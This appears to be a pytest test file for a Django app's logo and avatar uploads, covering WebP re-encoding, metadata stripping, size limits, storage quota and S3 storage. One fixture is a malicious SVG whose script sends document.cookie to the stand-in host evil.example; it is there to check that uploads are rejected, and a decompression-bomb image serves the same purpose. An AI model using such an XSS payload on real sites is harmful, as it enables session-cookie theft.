"""Logo and avatar uploads: checked by content, re-encoded to WebP, stored, counted against the quota.

Most tests use the local filesystem storage in a temporary MEDIA_ROOT; one runs the same path
against an S3-compatible server (moto) on loopback, the way production stores media.
"""

import io
import os
from pathlib import Path

import boto3
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django_tenants.utils import tenant_context
from PIL import Image

from core.images import UNREADABLE, WRONG_TYPE, ImageRejected
from shared_apps.tenancy.models import Membership
from tenant_apps.widgets.models import MediaFile, WidgetConfig
from tenant_apps.widgets.services import get_widget
from tenant_apps.widgets.uploads import process_image, read_upload
from widget_cdn.models import PublishedConfig, WidgetPublication

TOO_BIG = "Файл больше 2 МБ"

pytestmark = pytest.mark.django_db

SVG_WITH_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.cookie)">
  <script type="text/javascript">fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="100" height="100" fill="red"/>
</svg>"""


def image_bytes(fmt: str, size=(1200, 300), mode="RGB", **save) -> bytes:
    color = {"RGB": (200, 30, 60), "RGBA": (200, 30, 60, 128), "1": 1}[mode]
    image = Image.new(mode, size, color)
    out = io.BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (800, 600), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° on display
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), quality=90)
    return out.getvalue()


@pytest.fixture
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = str(tmp_path / "media")
    settings.STORAGES = {**settings.STORAGES,
                         "default": {"BACKEND": "django.core.files.storage.FileSystemStorage"}}
    return tmp_path / "media"


@pytest.fixture
def workspace(make_tenant, make_user, media):
    admin = make_user(full_name="Анна Смирнова")
    return make_tenant(name="Салон «Локон»", owner=admin), admin


def post_file(client, kind: str, data: bytes, name: str = "picture.png", content_type: str = "image/png"):
    return client.post(f"/api/v1/widget/{kind}", {"file": SimpleUploadedFile(name, data, content_type=content_type)})


def stored(tenant) -> WidgetConfig:
    with tenant_context(tenant):
        return get_widget()


def files_in(media: Path) -> list[Path]:
    return sorted(path for path in media.rglob("*") if path.is_file()) if media.exists() else []


@pytest.mark.parametrize(("fmt", "kind", "source", "expected"), [
    ("PNG", "logo", (1200, 300), (400, 100)),  # fitted within 400×160, proportions kept
    ("PNG", "logo", (300, 600), (80, 160)),
    ("WEBP", "logo", (120, 40), (120, 40)),  # never enlarged
    ("JPEG", "avatar", (800, 600), (256, 256)),  # centre-cropped square
    ("WEBP", "avatar", (100, 300), (256, 256)),
])
def test_accepted_images_are_re_encoded_to_bounded_webp(workspace, client_for, media, fmt, kind, source, expected):
    tenant, admin = workspace
    response = post_file(client_for(tenant, admin), kind, image_bytes(fmt, source), name=f"pic.{fmt.lower()}")

    assert response.status_code == 200, response.content
    config = response.json()
    assert config["version"] == 2
    assert config["updatedBy"] == "Анна Смирнова"
    widget = stored(tenant)
    path = getattr(widget, kind)
    assert path.startswith(f"tenants/{tenant.schema_name}/widget/{kind}-")
    assert path.endswith(".webp")
    with Image.open(media / path) as saved:
        assert saved.format == "WEBP"
        assert saved.size == expected
    with tenant_context(tenant):
        row = MediaFile.objects.get()
    assert (row.kind, row.path, row.size) == (kind, path, (media / path).stat().st_size)
    url = config["appearance"][f"{kind}Url"]
    assert url.startswith("http")
    assert url.endswith(path)
    # An upload is a save: version 2 is published at once with the new image.
    publication = WidgetPublication.objects.get(tenant=tenant)
    assert publication.version == 2
    assert publication.config["appearance"][f"{kind}Url"] == url
    assert PublishedConfig.objects.get(publication=publication, version=2).config["appearance"][f"{kind}Url"] == url


def test_metadata_is_stripped_and_orientation_applied():
    result = process_image(jpeg_with_gps(), MediaFile.Kind.LOGO)
    with Image.open(io.BytesIO(result.data)) as saved:
        assert saved.format == "WEBP"
        assert not saved.getexif()
        assert "exif" not in saved.info
        assert "icc_profile" not in saved.info
        assert "xmp" not in saved.info
        assert saved.size == (120, 160)  # 800×600 turned upright (600×800), fitted within 400×160


def test_transparency_survives():
    result = process_image(image_bytes("PNG", (200, 100), mode="RGBA"), MediaFile.Kind.LOGO)
    with Image.open(io.BytesIO(result.data)) as saved:
        assert saved.mode == "RGBA"


@pytest.mark.parametrize(("data", "name", "content_type", "message"), [
    (SVG_WITH_SCRIPT, "logo.svg", "image/svg+xml", WRONG_TYPE),
    (SVG_WITH_SCRIPT, "logo.png", "image/png", WRONG_TYPE),  # an SVG pretending to be a PNG
    ("Привет, это не картинка".encode(), "notes.png", "image/png", WRONG_TYPE),
    (image_bytes("GIF", (50, 50)), "anim.gif", "image/gif", WRONG_TYPE),
    (image_bytes("PNG", (400, 400))[:300], "broken.png", "image/png", UNREADABLE),  # truncated
    (b"\x89PNG\r\n\x1a\n" + os.urandom(2000), "noise.png", "image/png", UNREADABLE),
    (b"\xff\xd8\xff\xe0" + b"\x00" * 50, "broken.jpg", "image/jpeg", UNREADABLE),
    (b"", "empty.png", "image/png", UNREADABLE),
], ids=["svg-script", "svg-renamed-png", "text-renamed-png", "gif", "truncated-png", "png-noise", "broken-jpeg",
        "empty"])
def test_rejected_files_get_a_clear_message_and_change_nothing(workspace, client_for, media, data, name,
                                                                content_type, message):
    tenant, admin = workspace
    response = post_file(client_for(tenant, admin), "logo", data, name=name, content_type=content_type)

    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["message"] == message
    assert error["fields"] == {"file": message}
    assert stored(tenant).version == 1
    assert not stored(tenant).logo
    assert files_in(media) == []
    assert WidgetPublication.objects.get(tenant=tenant).version == 1


def test_files_over_2_mb_are_refused_before_decoding(workspace, client_for, media):
    tenant, admin = workspace
    three_mb = b"\x89PNG\r\n\x1a\n" + os.urandom(3 * 1024 * 1024)
    response = post_file(client_for(tenant, admin), "avatar", three_mb)
    assert response.status_code == 400
    assert response.json()["error"] == {"code": "file_too_large", "message": TOO_BIG, "fields": {"file": TOO_BIG}}
    assert files_in(media) == []

    just_over = SimpleUploadedFile("big.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * (2 * 1024 * 1024))
    with pytest.raises(ImageRejected) as refused:
        read_upload(just_over)
    assert refused.value.message == "Файл больше 2 МБ"


def test_decompression_bomb_is_refused():
    bomb = image_bytes("PNG", (10_000, 5_000), mode="1")  # 50 megapixels in a few kilobytes
    assert len(bomb) < 100_000
    with pytest.raises(ImageRejected) as refused:
        process_image(bomb, MediaFile.Kind.LOGO)
    assert refused.value.message == "Слишком большое изображение: не больше 40 мегапикселей"


def test_missing_file_is_a_russian_400(workspace, client_for):
    tenant, admin = workspace
    response = client_for(tenant, admin).post("/api/v1/widget/logo", {})
    assert response.status_code == 400
    assert response.json()["error"]["fields"] == {"file": "Выберите файл с изображением."}


def test_replacing_deletes_the_old_file_and_delete_removes_the_image(workspace, client_for, media,
                                                                     django_capture_on_commit_callbacks):
    tenant, admin = workspace
    client = client_for(tenant, admin)
    with django_capture_on_commit_callbacks(execute=True):
        assert post_file(client, "logo", image_bytes("PNG")).status_code == 200
    first = stored(tenant).logo
    assert (media / first).exists()

    with django_capture_on_commit_callbacks(execute=True):
        response = post_file(client, "logo", image_bytes("JPEG", (500, 500)), name="new.jpg")
    assert response.status_code == 200
    second = stored(tenant).logo
    assert second != first
    assert not (media / first).exists()
    assert files_in(media) == [media / second]
    with tenant_context(tenant):
        assert list(MediaFile.objects.values_list("path", flat=True)) == [second]

    with django_capture_on_commit_callbacks(execute=True):
        removed = client.delete("/api/v1/widget/logo")
    assert removed.status_code == 200
    assert removed.json()["appearance"]["logoUrl"] is None
    assert removed.json()["version"] == 4
    assert files_in(media) == []
    assert stored(tenant).logo == ""
    with tenant_context(tenant):
        assert not MediaFile.objects.exists()
    assert WidgetPublication.objects.get(tenant=tenant).config["appearance"]["logoUrl"] is None

    again = client.delete("/api/v1/widget/logo")  # nothing left to remove: nothing changes
    assert again.status_code == 200
    assert again.json()["version"] == 4


def test_quota_per_workspace_is_enforced(workspace, client_for, media, settings):
    tenant, admin = workspace
    client = client_for(tenant, admin)
    assert post_file(client, "logo", image_bytes("PNG")).status_code == 200
    used = stored(tenant)
    with tenant_context(tenant):
        logo_size = MediaFile.objects.get().size
    settings.TENANT_MEDIA_QUOTA_BYTES = logo_size + 100

    refused = post_file(client, "avatar", image_bytes("JPEG", (800, 800)))

    assert refused.status_code == 400
    error = refused.json()["error"]
    assert error["code"] == "media_quota_exceeded"
    assert error["message"].startswith("Превышен лимит хранилища:")
    assert error["message"].endswith("МБ на рабочее пространство")
    assert stored(tenant).version == used.version
    assert not stored(tenant).avatar
    assert len(files_in(media)) == 1
    # Replacing the logo with one of the same size fits: the old file's space is given back.
    assert post_file(client, "logo", image_bytes("PNG")).status_code == 200


def test_default_quota_message_names_100_mb(settings):
    from tenant_apps.widgets.uploads import quota_message

    settings.TENANT_MEDIA_QUOTA_BYTES = 100 * 1024 * 1024
    assert quota_message() == "Превышен лимит хранилища: 100 МБ на рабочее пространство"


def test_only_admins_upload(workspace, client_for, make_user, add_member, media):
    tenant, _ = workspace
    operator = make_user()
    add_member(operator, tenant, Membership.Role.OPERATOR)
    client = client_for(tenant, operator)
    assert post_file(client, "logo", image_bytes("PNG")).status_code == 403
    assert client.delete("/api/v1/widget/logo").status_code == 403
    assert files_in(media) == []


# --- the production storage path: an S3-compatible bucket ------------------------------------------------


@pytest.fixture
def s3_bucket(settings):
    """moto's S3 server on a loopback port, and the default storage switched to it (django-storages S3Storage)."""
    from moto.server import ThreadedMotoServer

    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    endpoint = f"http://{host}:{port}"
    credentials = {"aws_access_key_id": "fastlead-test", "aws_secret_access_key": "fastlead-test-secret",
                   "region_name": "ru-central1"}
    s3 = boto3.client("s3", endpoint_url=endpoint, **credentials)
    s3.create_bucket(Bucket="fastlead-media", CreateBucketConfiguration={"LocationConstraint": "ru-central1"})
    settings.STORAGES = {**settings.STORAGES, "default": {
        "BACKEND": "storages.backends.s3.S3Storage",
        "OPTIONS": {"bucket_name": "fastlead-media", "endpoint_url": endpoint,
                    "access_key": credentials["aws_access_key_id"],
                    "secret_key": credentials["aws_secret_access_key"], "region_name": "ru-central1",
                    "addressing_style": "path", "querystring_auth": False, "file_overwrite": False},
    }}
    try:
        yield s3, endpoint
    finally:
        server.stop()


def test_upload_goes_to_an_s3_compatible_bucket(make_tenant, make_user, client_for, s3_bucket,
                                                django_capture_on_commit_callbacks):
    s3, endpoint = s3_bucket
    admin = make_user(full_name="Анна Смирнова")
    tenant = make_tenant(owner=admin)
    client = client_for(tenant, admin)

    with django_capture_on_commit_callbacks(execute=True):
        response = post_file(client, "logo", image_bytes("PNG", (1000, 1000)))

    assert response.status_code == 200, response.content
    key = stored(tenant).logo
    assert key.startswith(f"tenants/{tenant.schema_name}/widget/logo-")
    obj = s3.get_object(Bucket="fastlead-media", Key=key)
    body = obj["Body"].read()
    with Image.open(io.BytesIO(body)) as saved:
        assert (saved.format, saved.size) == ("WEBP", (160, 160))
    url = f"{endpoint}/fastlead-media/{key}"
    assert response.json()["appearance"]["logoUrl"] == url
    assert WidgetPublication.objects.get(tenant=tenant).config["appearance"]["logoUrl"] == url
    with tenant_context(tenant):
        assert MediaFile.objects.get().size == len(body)
    # The editor shows it from our own origin, read back from the bucket.
    name = key.rsplit("/", 1)[1]
    shown = client.get(f"/widget/media/{name}")
    assert shown.status_code == 200
    assert b"".join(shown.streaming_content) == body

    with django_capture_on_commit_callbacks(execute=True):
        assert post_file(client, "logo", image_bytes("WEBP", (200, 80))).status_code == 200
    keys = [item["Key"] for item in s3.list_objects_v2(Bucket="fastlead-media").get("Contents", [])]
    assert keys == [stored(tenant).logo]  # the replaced object is gone from the bucket
